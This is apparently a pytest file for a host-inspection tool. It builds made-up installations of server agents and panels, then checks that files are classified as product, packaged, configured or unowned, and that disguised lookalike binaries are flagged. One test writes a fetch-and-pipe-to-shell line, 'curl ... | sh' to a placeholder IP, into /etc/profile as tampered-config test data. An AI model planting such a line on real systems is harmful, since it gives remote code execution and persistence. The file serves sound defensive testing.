"""The products we ship, held against made-up installations, and twins with something inside."""

import os
from collections.abc import Callable
from pathlib import Path

import pytest

from hemostat.examine.baseline import build_facts
from hemostat.examine.product_judge import load_products
from hemostat.model.path import HostPath
from hemostat.model.records import FileFact
from made_roots import install_dpkg, put, tree_of

ELF = b"\x7fELF\x02\x01\x01 made up"

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root: the files must be root's")


def bt_panel(root: Path) -> str:
    """As an installation of BT lies on disk."""
    put(root, "/www/server/panel/class/public.py", b"#coding: utf-8\n")
    put(root, "/www/server/panel/data/port.pl", b"8888")
    put(root, "/www/server/panel/BT-Panel", b"#!/www/server/panel/pyenv/bin/python\n", 0o700)
    return "/www/server/panel/BT-Panel"


def aegis(root: Path) -> str:
    put(root, "/usr/local/aegis/globalcfg/domaincfg.ini", b"[x]\n")
    put(root, "/etc/systemd/system/aegis.service", b"ExecStart=/etc/init.d/aegis start\n")
    put(root, "/usr/local/aegis/aegis_client/aegis_12_31/AliYunDun", ELF, 0o755)
    return "/usr/local/aegis/aegis_client/aegis_12_31/AliYunDun"


def yunjing(root: Path) -> str:
    put(root, "/etc/cron.d/yunjing", b"0 1 * * * root /usr/local/qcloud/YunJing/YDCrontab.sh\n")
    put(root, "/usr/local/qcloud/YunJing/uninst.sh", b"#!/bin/sh\n")
    put(root, "/usr/local/qcloud/YunJing/YDEyes/YDService", ELF, 0o755)
    return "/usr/local/qcloud/YunJing/YDEyes/YDService"


def node_exporter(root: Path) -> str:
    unit = b"ExecStart=/usr/local/bin/node_exporter\n"
    put(root, "/etc/systemd/system/node_exporter.service", unit)
    put(root, "/usr/local/bin/node_exporter", ELF, 0o755)
    return "/usr/local/bin/node_exporter"


def vscode(root: Path) -> str:
    server = "/home/ann/.vscode-server/bin/abc123"
    put(root, f"{server}/product.json", b'{"nameShort": "Code", "commit": "abc123"}')
    put(root, f"{server}/package.json", b'{"name": "code-server", "version": "1.9"}')
    put(root, f"{server}/node", ELF, 0o755)
    for folder, _, names in os.walk(root / "home/ann"):
        for path in (folder, *(os.path.join(folder, name) for name in names)):
            os.chown(path, 1001, 1001)
    return f"{server}/node"


def oneagent(root: Path) -> str:
    put(root, "/opt/dynatrace/oneagent/agent/tools/oneagentctl", ELF, 0o755)
    put(root, "/opt/dynatrace/oneagent/agent/installer.version", b"1.2")
    put(root, "/usr/lib/x86_64-linux-gnu/liboneagentproc.so", ELF)
    return "/usr/lib/x86_64-linux-gnu/liboneagentproc.so"


def snap(root: Path) -> str:
    put(root, "/snap/lxd/123/meta/snap.yaml", b"name: lxd\n")
    put(root, "/var/lib/snapd/snaps/lxd_123.snap", b"hsqs")
    put(root, "/snap/lxd/123/bin/lxd", ELF, 0o755)
    return "/snap/lxd/123/bin/lxd"


INSTALLERS = (bt_panel, aegis, yunjing, node_exporter, vscode, oneagent, snap)


def fact_of(root: Path, path: str) -> FileFact:
    facts, _ = build_facts(tree_of(root), {HostPath(path): {"runs"}})
    return facts[0]


@pytest.fixture
def root(tmp_path: Path) -> Path:
    install_dpkg(tmp_path, "base-files", {})
    return tmp_path


def test_every_product_file_we_ship_is_right() -> None:
    assert len(load_products().products) > 40
    assert len(load_products().generated) > 5


@pytest.mark.requirement("A4.13")
@pytest.mark.parametrize("install", INSTALLERS, ids=lambda each: each.__name__)
def test_an_installation_is_explained(root: Path, install: Callable[[Path], str]) -> None:
    fact = fact_of(root, install(root))
    assert fact.state.value == "product"
    assert fact.product


@pytest.mark.parametrize("install", INSTALLERS, ids=lambda each: each.__name__)
def test_the_same_path_without_its_companions_is_not(
    root: Path, install: Callable[[Path], str]
) -> None:
    path = install(root)
    for folder, _, names in os.walk(root):
        for name in names:
            file = Path(folder, name)
            if f"/{file.relative_to(root)}" != path and "dpkg" not in folder:
                file.unlink()
    assert fact_of(root, path).state.value == "unowned"


@pytest.mark.parametrize("install", INSTALLERS, ids=lambda each: each.__name__)
def test_a_twin_with_another_name_another_writer_or_another_owner_is_not(
    root: Path, install: Callable[[Path], str]
) -> None:
    path = install(root)
    hidden = f"{path.rpartition('/')[0]}/.x"
    put(root, hidden, ELF, 0o755)
    assert fact_of(root, hidden).state.value == "unowned"
    (root / path[1:]).chmod(0o777)
    assert fact_of(root, path).state.value == "unowned"
    (root / path[1:]).chmod(0o755)
    os.chown(root / path[1:], 33, 33)
    assert fact_of(root, path).state.value == "unowned"


def test_a_program_in_a_products_folder_that_is_none_of_its_programs_is_not(root: Path) -> None:
    bt_panel(root)
    put(root, "/www/server/panel/kworker", ELF, 0o755)
    assert fact_of(root, "/www/server/panel/kworker").state.value == "unowned"


def test_a_generated_file_is_configured_and_a_faithful_copy_packaged(root: Path) -> None:
    put(root, "/usr/share/base-files/profile", b"PATH=/bin\n")
    put(root, "/etc/profile", b"PATH=/bin\n")
    assert fact_of(root, "/etc/profile").state.value == "packaged"
    put(root, "/etc/profile", b"PATH=/bin\ncurl -s http://198.51.100.7/a | sh\n")
    assert fact_of(root, "/etc/profile").state.value == "configured"
    put(root, "/etc/pam.d/common-auth", b"auth required pam_unix.so\n")
    assert fact_of(root, "/etc/pam.d/common-auth").state.value == "unowned"
    install_dpkg(root, "libpam-runtime", {})
    assert fact_of(root, "/etc/pam.d/common-auth").state.value == "configured"
